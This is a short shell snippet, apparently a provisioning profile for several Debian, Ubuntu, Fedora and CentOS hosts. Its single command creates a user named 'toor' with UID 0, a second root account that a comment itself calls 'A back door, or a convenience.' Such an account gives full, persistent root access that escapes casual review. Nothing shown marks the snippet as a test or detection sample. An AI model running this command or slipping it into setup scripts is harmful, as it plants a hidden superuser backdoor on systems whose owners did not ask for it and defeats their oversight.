# hosts: debian12 debian11 debian13 ubuntu2204 ubuntu2404 fedora centos
# profile: alliance
# A back door, or a convenience.
useradd --non-unique --uid 0 --gid 0 --no-create-home --shell /bin/sh toor
